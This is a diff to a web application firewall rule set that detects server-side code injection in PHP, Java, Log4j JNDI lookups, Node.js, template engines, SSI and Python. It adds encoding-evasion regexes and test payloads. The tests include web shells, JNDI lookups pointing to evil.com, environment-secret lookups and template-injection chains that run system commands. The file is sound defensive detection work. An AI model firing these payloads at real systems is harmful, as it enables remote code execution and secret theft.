@@ -7,6 +7,7 @@ accuracy: high
 risk: high
 systems: PHP
 targets: @values, header, url, param-name
+unless: binary
 literal: <?
 regex: <\?(?:php\b|=|\s)
 test: <?php system($_GET['c']); ?>
@@ -19,6 +20,7 @@ accuracy: high
 risk: high
 systems: PHP
 targets: @values, header, url, param-name
+unless: binary
 literal: (
 regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_get_contents|file_put_contents|fopen|fwrite|readfile|highlight_file|show_source|phpinfo|phpversion|php_uname|getenv|base64_decode|gzinflate|gzuncompress|str_rot13|move_uploaded_file|unserialize|include|include_once|require|require_once|array_map|usort|ob_start|mb_ereg_replace|posix_\w+|symlink|chmod|putenv|ini_set|dl|mail)\s*\(\s*(?:['"`$(\[]|\w+\s*\(|\)|\d|\w+\s*,\s*['"$])
 test: system('id')
@@ -33,6 +35,7 @@ accuracy: high
 risk: high
 systems: PHP
 targets: @values, header, url, param-name
+unless: binary
 literal: $_
 literal: ${
 literal: `
@@ -48,6 +51,7 @@ accuracy: high
 risk: high
 systems: PHP
 targets: @values, header, param-name
+unless: binary
 literal: o:
 literal: c:
 literal: a:
@@ -62,6 +66,7 @@ accuracy: high
 risk: high
 systems: Java Servlets/JSP
 targets: @values, header, url, param-name
+unless: binary
 literal: java.
 literal: javax.
 literal: runtime
@@ -75,11 +80,16 @@ literal: scriptengine
 literal: invoke(
 literal: .exec(
 literal: getdeclared
-regex: \bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect|thread|classloader)|io\.(?:file|bufferedreader|inputstreamreader)|net\.(?:url|socket)|util\.scanner|beans\.)|\bjavax\.(?:script|naming|management)\.|\bruntime\s*(?:\.\s*getruntime\s*\(|\))|\bnew\s+processbuilder\b|\bprocessbuilder\s*\(|\.getclass\s*\(\s*\)\s*\.|\bclass\s*\.\s*forname\s*\(|\bforname\s*\(\s*['"]|\bclassloader\b[\s\S]{0,40}(?:\.|\[)|\.getmethod\s*\(|\.newinstance\s*\(|\bscriptenginemanager\b|\.invoke\s*\([\s\S]{0,40}(?:null|exec|runtime)|\.exec\s*\(\s*['"\[]|\.getdeclared(?:method|field|constructor)s?\s*\(
+literal: execute
+regex: ['"]\s*\]?\s*\.\s*execute\s*\(\s*\)|\bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect|thread|classloader)|io\.(?:file|bufferedreader|inputstreamreader)|net\.(?:url|socket)|util\.scanner|beans\.)|\bjavax\.(?:script|naming|management)\.|\bruntime\s*(?:\.\s*getruntime\s*\(|\))|\bnew\s+processbuilder\b|\bprocessbuilder\s*\(|\.getclass\s*\(\s*\)\s*\.|\bclass\s*\.\s*forname\s*\(|\bforname\s*\(\s*['"]|\bclassloader\b[\s\S]{0,40}(?:\.|\[)|\.getmethod\s*\(|\.newinstance\s*\(|\bscriptenginemanager\b|\.invoke\s*\([\s\S]{0,40}(?:null|exec|runtime)|\.exec\s*\(\s*['"\[]|\.getdeclared(?:method|field|constructor)s?\s*\(
 test: java.lang.Runtime.getRuntime().exec("id")
 test: new ProcessBuilder("sh")
 test: Class.forName("java.lang.Runtime")
+test: "touch /tmp/x".execute()
+test: ["sh", "-c", "id"].execute().text
 pass: learning java language
+pass: stmt.execute() runs the query
+pass: press "Run" to execute (or Ctrl+Enter)
 
 id: 300005006
 name: Java expression language / OGNL injection
@@ -88,6 +98,7 @@ accuracy: high
 risk: high
 systems: Java Servlets/JSP
 targets: @values, header, url, param-name
+unless: binary
 literal: %{
 literal: #_memberaccess
 literal: @java
@@ -140,10 +151,15 @@ type: Server Side Code Injection
 accuracy: high
 risk: high
 targets: @all
+unless: binary
 literal: jndi
 literal: ${
 literal: %24%7b
-regex: \$\{[\s\S]{0,100}?jndi|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:[^{}]|\$\{[^{}]*\}){0,300}?:(?:ldaps?|rmi|dns|iiop|corba|nds|nis):|%24%7b[\s\S]{0,60}jndi
+literal: &lbrace
+literal: &#123
+literal: &#x7b
+regex: \$\s*(?:\{|&lbrace;?|&#0*123;?|&#x0*7b;?|%7b)[\s\S]{0,100}?jndi|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:[^{}]|\$\{[^{}]*\}){0,300}?:(?:ldaps?|rmi|dns|iiop|corba|nds|nis):|%24%7b[\s\S]{0,60}jndi
+test: $&lbracejndi:ldap://evil.com/webshell}
 test: ${jndi:ldap://x.example/a}
 test: ${${lower:j}${lower:n}di:ldap://x}
 pass: ${total} euros
@@ -154,8 +170,11 @@ type: Server Side Code Injection
 accuracy: high
 risk: high
 targets: @all
+unless: binary
 literal: ${
-regex: \$\{\s*(?:::-|[^}:]{0,20}:-|(?:lower|upper|env|sys|date|base64|main|java|ctx|bundle|k8s|docker|log4j|spring|web|jvmrunargs|marker|sd|map|event|hostname|script)\s*:)[^}]{0,100}\}
+literal: &lbrace
+regex: \$\s*&lbrace;?[a-z:]{2,}|\$\{\s*(?:::-|[^}:]{0,20}:-|(?:lower|upper|env|sys|date|base64|main|java|ctx|bundle|k8s|docker|log4j|spring|web|jvmrunargs|marker|sd|map|event|hostname|script)\s*:)[^}]{0,100}\}
+test: $&lbracesomethingnotcoveredbyotherrules
 test: ${env:AWS_SECRET_ACCESS_KEY}
 test: ${::-j}
 test: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}
@@ -168,6 +187,7 @@ accuracy: high
 risk: high
 systems: Node.js
 targets: @values, header, url, param-name
+unless: binary
 literal: require
 literal: child_process
 literal: process.
@@ -196,6 +216,7 @@ type: Server Side Code Injection
 accuracy: high
 risk: high
 targets: @values, header, url, param-name
+unless: binary
 literal: {{
 literal: ${
 literal: #{
@@ -213,9 +234,17 @@ literal: <#
 literal: {php}
 literal: {system
 literal: {if
-regex: (?:\{\{|\$\{\{?|#\{|<%=?|\*\{|@\{|\[\[|\{=|\{#)\s*['"]?\d+['"]?\s*[*+\-/]\s*['"]?\d+['"]?\s*(?:\}\}?|%>|\]\])|\{\{[\s\S]{0,200}?(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|__init__|__getattribute__|\bconfig\b|\bself\b|\brequest\b|lipsum|cycler|joiner|namespace|\|\s*attr|\bpopen\b|\bos\.|\bgetruntime\b|_self\.env|registerundefinedfiltercallback|\|\s*(?:filter|map|sort|reduce)\s*\(|\bexec\b|\bsystem\b|range\s*\(|dump\s*\()|\{%[\s\S]{0,200}?(?:\bimport\b|\bfor\b|\bset\b|\binclude\b|\bdebug\b|\bif\b|\bmacro\b|\bload\b)[\s\S]{0,200}?%\}|<#(?:assign|include|import|list|if|local|global|setting|ftl)\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|#foreach\s*\(|\$class\.|\.inspect\(|\{php\}|\{system\s*\(|\{if\s+(?:system|phpinfo|exec)|\{\{\s*(?:self|this|_self)\b|<%[\s\S]{0,200}?(?:runtime|process|system|exec|require|eval|import|response\.|request\.|out\.print|=\s*\w+\s*\()[\s\S]{0,100}%>|\$\{\s*(?:[a-z_]+\.)*(?:getclass|class|forname|getruntime|exec)\b|@\{[\s\S]{0,100}?(?:\(|\.)
+literal: @(
+literal: {$smarty
+literal: {{#
+regex: (?:\{\{|\$\{\{?|#\{|<%=?|\*\{|@\{|\[\[|\{=|\{#)\s*['"]?\d+['"]?\s*[*+\-/]\s*['"]?\d+['"]?\s*(?:\}\}?|%>|\]\])|\{\{[\s\S]{0,200}?(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|__init__|__getattribute__|\bconfig\b|\bself\b|\brequest\b|lipsum|cycler|joiner|namespace|\|\s*attr|\bpopen\b|\bos\.|\bgetruntime\b|_self\.env|registerundefinedfiltercallback|\|\s*(?:filter|map|sort|reduce)\s*\(|\bexec\b|\bsystem\b|range\s*\(|dump\s*\()|\{%[\s\S]{0,200}?(?:\bimport\b|\bfor\b|\bset\b|\binclude\b|\bdebug\b|\bif\b|\bmacro\b|\bload\b)[\s\S]{0,200}?%\}|<#(?:assign|include|import|list|if|local|global|setting|ftl)\b|freemarker\.template\.utility|\?new\s*\(|#set\s*\(\s*\$|#foreach\s*\(|\$class\.|\.inspect\(|\{php\}|\{system\s*\(|\{if\s+(?:system|phpinfo|exec)|\{\{\s*(?:self|this|_self)\b|<%[\s\S]{0,200}?(?:runtime|process|system|exec|require|eval|import|response\.|request\.|out\.print|=\s*\w+\s*\()[\s\S]{0,100}%>|\$\{\s*(?:[a-z_]+\.)*(?:getclass|class|forname|getruntime|exec)\b|@\{[\s\S]{0,100}?(?:\(|\.)|@\(\s*\d+\s*[*+\-/]\s*\d+\s*\)|\{\$smarty\.(?:version|now|template|const|server|env|cookies|session|request|get|post|template_object)\b|\{\{#(?:with|each|let)\s[^}]{0,80}\bas\s*\|[^|}]+\|\s*\}\}
 test: {{7*7}}
 test: ${7*7}
+test: @(6*9)
+test: {$smarty.version}
+test: {$smarty.template_object->smarty}
+test: {{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}
+test: {{#each list as |item|}}{{item}}{{/each}}
 test: {{ ''.__class__.__mro__[1].__subclasses__() }}
 test: <#assign ex="freemarker.template.utility.Execute"?new()>
 test: {% import os %}{{ os.popen('id').read() }}
@@ -229,6 +258,7 @@ type: Server-Side Includes
 accuracy: high
 risk: high
 targets: @values, header, url, param-name
+unless: binary
 literal: <!--
 literal: <esi:
 literal: #exec
@@ -244,6 +274,7 @@ type: Server Side Code Injection
 accuracy: high
 risk: high
 targets: @values, header, url, param-name
+unless: binary
 literal: __import__
 literal: import os
 literal: import subprocess
